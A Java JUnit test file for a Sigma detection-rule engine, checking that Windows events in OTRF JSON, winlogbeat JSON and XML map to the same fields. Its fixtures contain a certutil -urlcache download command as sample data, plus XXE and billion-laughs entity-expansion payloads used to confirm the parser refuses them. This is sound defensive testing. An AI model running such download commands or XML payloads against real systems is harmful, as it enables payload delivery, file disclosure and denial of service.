package dev.vigil.attack.sigma;

import static dev.vigil.attack.sigma.SigmaFixture.fires;
import static dev.vigil.attack.sigma.SigmaFixture.load;
import static dev.vigil.attack.sigma.SigmaFixture.processCreation;
import static dev.vigil.attack.sigma.SigmaFixture.rule;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Windows events as OTRF flat JSON, winlogbeat JSON and event XML all read as the same Sigma fields. */
class EventFieldsTest {

    private static final String CERTUTIL = """
            selection:
                Image|endswith: '\\certutil.exe'
                CommandLine|contains: 'urlcache'
            condition: selection
            """;

    private static final String SYSMON_XML = """
            <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
              <System>
                <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
                <EventID>1</EventID>
                <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
                <Computer>WS01.corp.local</Computer>
              </System>
              <EventData>
                <Data Name="Image">C:\\Windows\\System32\\certutil.exe</Data>
                <Data Name="CommandLine">certutil -urlcache -f &quot;http://x/a.exe&quot; a.exe</Data>
                <Data Name="ParentImage">C:\\Windows\\System32\\cmd.exe</Data>
              </EventData>
            </Event>
            """;

    @TempDir
    Path dir;

    private SigmaRules certutil;

    @BeforeEach
    void loadRule() {
        certutil = load(dir, processCreation("certutil", CERTUTIL));
        assertThat(certutil.problems()).isEmpty();
    }

    private static SigmaEvent read(String raw) {
        SigmaEvent event = SigmaEvents.windows(raw);
        assertThat(event).as(raw).isNotNull();
        return event;
    }

    private static java.util.Collection<String> fieldValues(@org.jspecify.annotations.Nullable SigmaEvent event) {
        return event == null ? java.util.List.of() : event.view().fields().values();
    }

    @Test
    void readsOtrfFlatJsonWithANumericEventId() {
        SigmaEvent event = read("""
                {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                 "Image": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                 "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
                 "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS01"}
                """);
        assertThat(event.view().value("EventID")).isEqualTo("1");
        assertThat(event.view().value("Image")).isEqualTo("C:\\Windows\\System32\\certutil.exe");
        assertThat(fires(certutil, event)).isTrue();
    }

    @Test
    void readsWinlogbeatJson() {
        SigmaEvent event = read("""
                {"@timestamp": "2024-05-01T10:00:00Z",
                 "event": {"code": "1"},
                 "winlog": {"event_id": 1, "channel": "Microsoft-Windows-Sysmon/Operational",
                            "provider_name": "Microsoft-Windows-Sysmon", "computer_name": "WS01",
                            "event_data": {"Image": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                                           "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"}}}
                """);
        assertThat(event.view().value("Channel")).isEqualTo("Microsoft-Windows-Sysmon/Operational");
        assertThat(event.view().value("Provider_Name")).isEqualTo("Microsoft-Windows-Sysmon");
        assertThat(event.view().value("Computer")).isEqualTo("WS01");
        assertThat(event.view().value("winlog.event_data.Image"))
                .as("the nested name stays too")
                .isEqualTo("C:\\Windows\\System32\\certutil.exe");
        assertThat(fires(certutil, event)).isTrue();
    }

    @Test
    void readsWindowsEventXml() {
        SigmaEvent event = read(SYSMON_XML);
        assertThat(event.view().value("Provider_Name")).isEqualTo("Microsoft-Windows-Sysmon");
        assertThat(event.view().value("Computer")).isEqualTo("WS01.corp.local");
        assertThat(event.view().value("CommandLine")).isEqualTo("certutil -urlcache -f \"http://x/a.exe\" a.exe");
        assertThat(event.view().value("ParentImage")).isEqualTo("C:\\Windows\\System32\\cmd.exe");
        assertThat(fires(certutil, event)).isTrue();
    }

    @Test
    void readsXmlEventIdsWithQualifiersAndUserData() {
        SigmaEvent event = read("""
                <Event><System><Provider Name="Service Control Manager"/>
                <EventID Qualifiers="16384">7045</EventID><Channel>System</Channel></System>
                <UserData><Service><ImagePath>C:\\evil.exe</ImagePath></Service></UserData></Event>
                """);
        assertThat(event.buckets()).contains(Route.windowsBucket("System", "7045"));
        assertThat(event.view().value("ImagePath")).isEqualTo("C:\\evil.exe");
    }

    @Test
    void xmlWithAnExternalEntityIsNotRead() throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "TOPSECRET-urlcache");
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE Event [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>\n"
                + SYSMON_XML.replace("certutil -urlcache -f &quot;http://x/a.exe&quot; a.exe", "&xxe;");
        SigmaEvent event = SigmaEvents.windows(xml);
        // an undeclared entity makes the record unreadable, which is the safe outcome
        assertThat(event).isNull();
        assertThat(fieldValues(event)).noneMatch(v -> v.contains("TOPSECRET"));
    }

    @Test
    void xmlEntityExpansionIsNotPerformed() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE Event [<!ENTITY e0 \"lol\">");
        for (int i = 1; i < 12; i++) {
            dtd.append("<!ENTITY e").append(i).append(" \"");
            dtd.append(("&e" + (i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        String xml = dtd + SYSMON_XML.replace("a.exe</Data>", "&e11;</Data>");
        SigmaEvent event = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> SigmaEvents.windows(xml));
        assertThat(fieldValues(event)).noneMatch(v -> v.contains("lol"));
    }

    @Test
    void aDoctypeWithoutEntitiesDoesNotStopTheRestBeingRead() {
        SigmaEvent event = read("<!DOCTYPE Event>" + SYSMON_XML);
        assertThat(fires(certutil, event)).isTrue();
    }

    @Test
    void providerNameRulesMatchOtrfEventsThatCallItSourceName() throws Exception {
        Path rulesDir = Files.createDirectories(dir.resolve("provider"));
        SigmaRules rules = load(rulesDir, rule("p", "product: windows\nservice: security\n", """
                selection:
                    Provider_Name: 'Microsoft-Windows-Security-Auditing'
                    EventID: 4624
                condition: selection
                """));
        assertThat(rules.problems()).isEmpty();
        assertThat(fires(rules, read("""
                        {"EventID": 4624, "Channel": "Security",
                         "SourceName": "Microsoft-Windows-Security-Auditing"}
                        """))).isTrue();
        assertThat(fires(rules, read("""
                        {"EventID": 4624, "Channel": "Security", "SourceName": "Other"}
                        """))).isFalse();
        assertThat(fires(rules, read("""
                        <Event><System><Provider Name="Microsoft-Windows-Security-Auditing"/>
                        <EventID>4624</EventID><Channel>Security</Channel></System></Event>
                        """))).isTrue();
    }

    @Test
    void eachEventIsFiledUnderItsChannelAndIdItsChannelAndAllWindowsEvents() {
        SigmaEvent event = read("{\"EventID\": \"4688\", \"Channel\": \"Security\"}");
        assertThat(event.buckets())
                .containsExactly(
                        Route.windowsBucket("Security", "4688"),
                        Route.windowsBucket("Security", Route.ANY_EVENT_ID),
                        Route.windowsBucket("*", Route.ANY_EVENT_ID));
    }

    @Test
    void nestedObjectsJoinTheirNamesWithDotsAndArraysTheirValuesWithCommas() {
        SigmaEvent event = read("""
                {"EventID": 1, "Channel": "x", "Process": {"Parent": {"Name": "cmd.exe"}},
                 "Tags": ["a", 2, true, null], "Empty": null}
                """);
        assertThat(event.view().fields())
                .containsEntry("Process.Parent.Name", "cmd.exe")
                .containsEntry("Tags", "a,2,true")
                .doesNotContainKey("Empty");
    }

    @Test
    void textThatIsNoEventIsNoEvent() {
        for (String raw : new String[] {"hello", "[1, 2]", "{}", "{\"EventID\": ", "<Event><System>", ""}) {
            assertThat(SigmaEvents.windows(raw)).as(raw).isNull();
        }
    }

    @Test
    void anEventViewWithoutAliasesReadsOnlyItsOwnNames() {
        EventView view = new EventView(Map.of("SourceName", "X"));
        assertThat(view.value("Provider_Name")).isNull();
        assertThat(view.lower("SourceName")).isEqualTo("x");
    }
}
